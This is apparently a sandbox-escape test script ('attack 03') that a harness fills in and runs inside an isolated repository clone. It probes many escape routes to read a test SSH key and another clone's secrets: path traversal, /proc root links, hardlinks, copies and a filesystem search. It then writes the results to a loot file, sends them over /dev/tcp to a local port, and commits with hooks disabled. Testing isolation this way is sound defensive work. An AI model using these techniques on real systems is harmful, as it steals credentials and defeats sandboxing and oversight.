#!/usr/bin/env bash
# attack 03 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
L=$TOP/attack-03-loot.txt; : >"$L"
grab() { [ -r "$1" ] && [ -f "$1" ] && timeout 1 head -c 4096 "$1" >>"$L" 2>/dev/null; }
up=; for i in 1 2 3 4 5 6 7 8 9 10 11 12; do up=../$up; done
for s in "$H/.ssh/id_test" "$H/secrets/other-clone/file"; do
  grab "$s"; grab "$up${s#/}"; grab "/newroot$s"; grab "/oldroot$s"; grab "/.oldroot$s"; grab "/mnt$s"; grab "/host$s"
  for p in /proc/[0-9]*; do grab "$p/root$s"; grab "$p/cwd/$up${s#/}"; done
  ln "$s" "$TOP/attack-03-hard-${s##*/}" 2>/dev/null
  cp -L "$s" "$TOP/attack-03-copy-${s##*/}" 2>/dev/null
done
tar -C "$H" -cf - .ssh secrets 2>/dev/null | tar -xOf - 2>/dev/null | head -c 65536 >>"$L"
for d in ../*/ ../../*/ "$H"/.local/share/spool/*/ "$H"/.local/share/spool/clones/*/; do
  case "$(realpath -m "$d")" in "$TOP"|"$TOP"/*) continue;; "$H"/*) ;; *) continue;; esac
  for f in "$d"*; do grab "$f"; done
done
timeout 3 find / -xdev \( -path /proc -o -path /sys -o -path /usr \) -prune -o -name id_test -type f -print 2>/dev/null | while read -r f; do grab "$f"; done
cat "$L"
printf 'GET /%s HTTP/1.0\r\n\r\n' "$(tr -c 'A-Za-z0-9_-' . <"$L")" 2>/dev/null >"/dev/tcp/127.0.0.1/$P"
git add -A -f . && commit -m 'attack 03'
exit 0
